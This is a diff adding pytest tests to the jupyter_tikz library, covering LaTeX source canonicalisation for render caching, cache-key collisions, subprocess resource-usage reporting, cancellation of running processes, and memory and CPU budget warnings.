+        ("ab", "a%\n  b"),
+        ("a\\\\b", "a\\\\% comment\nb"),
+        ("\\draw[red] (0,0);", "\\draw [red]  (0,0);"),
+    ],
+)
+def test_canonical_latex_ignores_cosmetic_edits(code, cosmetic_edit):
+    # Act & Assert
+    assert jupyter_tikz._canonical_latex(
+        cosmetic_edit
+    ) == jupyter_tikz._canonical_latex(code)
+
+
+@pytest.mark.parametrize(
+    "code, edit",
+    [
+        ("a b", "ab"),
+        ("a b", "a\n\nb"),
+        ("ab", "a%\n\nb"),  # The blank line is still a paragraph break
+        ("50\\% a", "50\\% b"),  # Escaped percent sign
+        ("\\verb|a  b|", "\\verb|a b|"),
+        ("\\verb|%a|", "\\verb|%b|"),
+        ("\\url{a%20b}", "\\url{a%30b}"),
+        ("\\foo bar", "\\foobar"),
+        ("\\\\draw[red]", "\\\\draw [red]"),  # `\\` is not a control word
+        (
+            "\\begin{verbatim}\n  a\n\\end{verbatim}",
+            "\\begin{verbatim}\na\n\\end{verbatim}",
+        ),
+        (
+            "\\begin{lstlisting}\n% a\n\\end{lstlisting}",
+            "\\begin{lstlisting}\n% b\n\\end{lstlisting}",
+        ),
+        # Line breaks separate the rows of tables
+        (
+            "\\addplot table {\nx y\n1 2\n3 4\n};",
+            "\\addplot table {\nx y 1\n2 3 4\n};",
+        ),
+        (
+            "\\addplot table [x=a] {\na b\n1 2\n};",
+            "\\addplot table [x=a] {\na b 1 2\n};",
+        ),
+        (
+            "\\pgfplotstableread{\na b\n1 2\n}\\data",
+            "\\pgfplotstableread{\na b 1\n2\n}\\data",
+        ),
+        (
+            "\\pgfplotstableread[col sep=space]{\n1 2\n3 4\n}\\data",
+            "\\pgfplotstableread[col sep=space]{\n1 2 3\n4\n}\\data",
+        ),
+        (
+            "\\begin{filecontents*}{d.dat}\na b\n1 2\n\\end{filecontents*}",
+            "\\begin{filecontents*}{d.dat}\na b 1\n2\n\\end{filecontents*}",
+        ),
+    ],
+)
+def test_canonical_latex_keeps_meaningful_edits(code, edit):
+    # Act & Assert
+    assert jupyter_tikz._canonical_latex(edit) != jupyter_tikz._canonical_latex(code)
+
+
+def test_cache_key_pgfplotstableread_with_options_does_not_collide():
+    # Arrange
+    template = EXAMPLE_GOOD_TEX.replace(
+        "\\begin{document}",
+        "\\pgfplotstableread[col sep=space]{\n%s\n}\\data\n\\begin{document}",
+    )
+    first = TexDocument(template % "1 2\n3 4", no_jinja=True)
+    second = TexDocument(template % "1 2 3\n4", no_jinja=True)
+
+    # Act & Assert
+    assert first._cache_key("pdflatex", None) != second._cache_key("pdflatex", None)
+
+
+def test_run_latex_cache_ignores_cosmetic_edits(
+    mocker, monkeypatch, tmp_path, cache_dir
+):
+    # Arrange
+    monkeypatch.chdir(tmp_path)
+    mocker.patch.object(display, "SVG", return_value="SVG")
+    run_mock = mocker.patch.object(
+        jupyter_tikz, "_run_process", side_effect=render_side_effect
+    )
+    TexDocument(EXAMPLE_GOOD_TEX).run_latex(cache=True)
+    edited = EXAMPLE_GOOD_TEX.replace("    \\draw", "\\draw % Square\n   ")
+
+    # Act
+    TexDocument(edited).run_latex(cache=True, save_tex="saved")
+
+    # Assert
+    assert run_mock.call_count == 2  # Only the first run compiled
+    assert Path("saved.tex").read_text() == edited.strip()  # The exact source
+
+
+# ====================== run_latex - resource usage ======================
+
+
+def test_run_process():
+    # Act
+    res = jupyter_tikz._run_process("echo out; echo err >&2; exit 3")
+
+    # Assert
+    assert (res.returncode, res.stdout, res.stderr) == (3, "out\n", "err\n")
+    assert res.resource_usage["processes"] == 1
+    assert res.resource_usage["max_rss"] > 0
+    assert set(res.resource_usage) == {
+        "processes",
+        "user_time",
+        "system_time",
+        "max_rss",
+        "read_blocks",
+        "write_blocks",
+    }
+
+
+def test_run_process_large_outputs():
+    # Arrange
+    code = "import sys; sys.stdout.write('o' * 2**20); sys.stderr.write('e' * 2**20)"
+
+    # Act
+    res = jupyter_tikz._run_process(f'"{sys.executable}" -c "{code}"')
+
+    # Assert
+    assert res.returncode == 0
+    size = jupyter_tikz._OUTPUT_TAIL_SIZE
+    assert (res.stdout, res.stderr) == ("o" * size, "e" * size)
+
+
+@pytest.mark.skipif(os.name != "posix", reason="Needs process groups")
+def test_cancel_scope_terminates_running_processes():
+    # Arrange
+    scope = jupyter_tikz._CancelScope()
+    threading.Timer(0.2, scope.cancel).start()
+    start = time.monotonic()
+
+    # Act
+    with scope:
+        res = jupyter_tikz._run_process("sleep 10; echo done")
+
+    # Assert
+    assert time.monotonic() - start < 5
+    assert res.returncode != 0 and res.stdout == ""
+    assert scope.terminated
+
+
+@pytest.mark.skipif(os.name != "posix", reason="Needs process groups")
+def test_cancel_scope_terminates_later_processes():
+    # Arrange
+    scope = jupyter_tikz._CancelScope()
+    scope.cancel()
+
+    # Act
+    with scope:
+        res = jupyter_tikz._run_process("sleep 10")
+
+    # Assert
+    assert res.returncode != 0
+    assert getattr(jupyter_tikz._cancel_scope, "scope", None) is None
+
+
+def test_merge_usage():
+    # Arrange
+    usage = {"processes": 1, "user_time": 1.0, "max_rss": 10, "read_blocks": 2}
+
+    # Act
+    res = jupyter_tikz._merge_usage(usage, {**usage, "max_rss": 5})
+
+    # Assert
+    assert res == {"processes": 2, "user_time": 2.0, "max_rss": 10, "read_blocks": 4}
+
+
+def usage_side_effect(max_rss, cpu_time):
+    def side_effect(*args, **kwargs):
+        result = render_side_effect(*args, **kwargs)
+        result.resource_usage = {
+            "processes": 1,
+            "user_time": cpu_time,
+            "system_time": 0.0,
+            "max_rss": max_rss,
+            "read_blocks": 0,
+            "write_blocks": 8,
+        }
+        return result
+
+    return side_effect
+
+
+def test_run_latex_resource_usage(
+    tex_document_mock__run_latex, mocker, monkeypatch, tmp_path
+):
+    # Arrange
+    monkeypatch.chdir(tmp_path)
+    mocker.patch.object(
+        jupyter_tikz, "_run_process", side_effect=usage_side_effect(2**20, 0.5)
+    )
+    mocker.patch.object(jupyter_tikz, "_needs_rerun", side_effect=[True, False])
+
+    # Act
+    tex_document_mock__run_latex.run_latex()
+
+    # Assert
+    usage = tex_document_mock__run_latex.resource_usage
+    assert set(usage) == {"tex", "convert"}
+    assert usage["tex"]["processes"] == 2  # Two passes
+    assert usage["tex"]["user_time"] == 1.0
+    assert usage["tex"]["max_rss"] == 2**20
+    assert usage["convert"]["write_blocks"] == 8
+
+
+@pytest.mark.parametrize(
+    "env, expected_err",
+    [
+        (
+            {"JUPYTER_TIKZ_MEMORY_BUDGET": "1"},
+            "The render used 2 MB of memory, over the budget of 1 MB",
+        ),
+        (
+            {"JUPYTER_TIKZ_CPU_BUDGET": "0.5"},
+            "The render used 1.0 s of CPU time, over the budget of 0.5 s",
+        ),
+    ],
+)
+def test_run_latex_resource_budgets(
+    tex_document_mock__run_latex,
+    mocker,
+    monkeypatch,
+    tmp_path,
+    capsys,
+    env,
+    expected_err,
+):
+    # Arrange
+    monkeypatch.chdir(tmp_path)
+    for name, value in env.items():
+        monkeypatch.setenv(name, value)
+    mocker.patch.object(
+        jupyter_tikz, "_run_process", side_effect=usage_side_effect(2 * 2**20, 0.5)
+    )
+
+    # Act
+    res = tex_document_mock__run_latex.run_latex()
+
+    # Assert
+    assert res is not None
+    assert expected_err in capsys.readouterr().err
+
+
+def test_run_latex_within_budgets(
+    tex_document_mock__run_latex, mocker, monkeypatch, tmp_path, capsys
+):
+    # Arrange
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("JUPYTER_TIKZ_MEMORY_BUDGET", "512")
+    monkeypatch.setenv("JUPYTER_TIKZ_CPU_BUDGET", "10")
+    mocker.patch.object(
+        jupyter_tikz, "_run_process", side_effect=usage_side_effect(2**20, 0.5)
+    )
+
+    # Act
+    tex_document_mock__run_latex.run_latex()
+
+    # Assert
+    assert capsys.readouterr().err == ""